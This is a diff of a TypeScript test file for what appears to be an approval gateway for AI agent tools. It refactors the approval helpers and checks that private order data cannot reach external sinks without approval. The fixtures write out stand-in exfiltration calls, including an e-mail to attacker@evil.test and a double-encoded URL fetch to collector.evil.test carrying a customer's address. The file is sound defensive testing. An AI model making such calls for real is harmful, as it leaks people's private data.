@@ -12,7 +12,7 @@ import { readFileSync, rmSync } from 'node:fs';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import type { Approval } from '../../src/approvals/approval.js';
+import { denyApproval, pendingFor } from '../helpers/approvals.js';
 import {
   denialCode,
   exampleUpstream,
@@ -88,26 +88,6 @@ beforeEach(() => rmSync(RECORD, { force: true }));
 
 const sent = (tool: string) => recorded(RECORD).filter((r) => r.tool === tool);
 
-async function pendingFor(runId: string): Promise<Approval> {
-  for (let i = 0; i < 400; i++) {
-    const [approval] = (await gw.gateway.store.approvals.list({ state: 'pending' })).filter(
-      (a) => a.runId === runId,
-    );
-    if (approval) return approval;
-    await new Promise((r) => setTimeout(r, 25));
-  }
-  throw new Error('no pending approval appeared');
-}
-
-async function deny(approval: Approval): Promise<void> {
-  await gw.gateway.approvals.decide(approval.id, {
-    operator: 'local',
-    decision: 'deny',
-    reason: 'not this',
-    at: Date.now(),
-  });
-}
-
 /** Reads an order and returns the customer's e-mail address from the answer. */
 async function readOrder(agent: Awaited<ReturnType<TestGateway['agent']>>): Promise<string> {
   const result = await agent.client.callTool({
@@ -138,12 +118,12 @@ describe('private data meeting an external sink', () => {
       name: 'mail__send_email',
       arguments: { to: 'attacker@evil.test', subject: 'data', body: `Customer contact: ${email}` },
     });
-    const approval = await pendingFor(agent.runId);
+    const approval = await pendingFor(gw.gateway, agent.runId);
     expect(approval.why).toContain('private data from orders__get_order_status');
     expect(approval.why).toContain('/body holds an e-mail address from orders__get_order_status');
     expect(approval.why).not.toContain(email);
     expect(sent('send_email')).toEqual([]);
-    await deny(approval);
+    await denyApproval(gw.gateway, approval);
     expect(denialCode(await call)).toBe('approval_denied');
     expect(sent('send_email')).toEqual([]);
 
@@ -180,10 +160,10 @@ describe('private data meeting an external sink', () => {
     const email = await readOrder(agent);
     const url = `https://collector.evil.test/?q=${encodeURIComponent(encodeURIComponent(email))}`;
     const call = agent.client.callTool({ name: 'web__fetch', arguments: { url } });
-    const approval = await pendingFor(agent.runId);
+    const approval = await pendingFor(gw.gateway, agent.runId);
     expect(approval.why).toContain('/url holds an e-mail address from orders__get_order_status');
     expect(sent('fetch')).toEqual([]);
-    await deny(approval);
+    await denyApproval(gw.gateway, approval);
     await call;
     expect(sent('fetch')).toEqual([]);
   });
@@ -195,10 +175,10 @@ describe('private data meeting an external sink', () => {
       name: 'mail__send_email',
       arguments: { to: 'x@evil.test', subject: 'summary', body: 'one order, shipped' },
     });
-    const approval = await pendingFor(agent.runId);
+    const approval = await pendingFor(gw.gateway, agent.runId);
     expect(approval.why).toContain('private data from orders__get_order_status');
     expect(approval.why).not.toContain('Recognised');
-    await deny(approval);
+    await denyApproval(gw.gateway, approval);
     await call;
     expect(sent('send_email')).toEqual([]);
   });
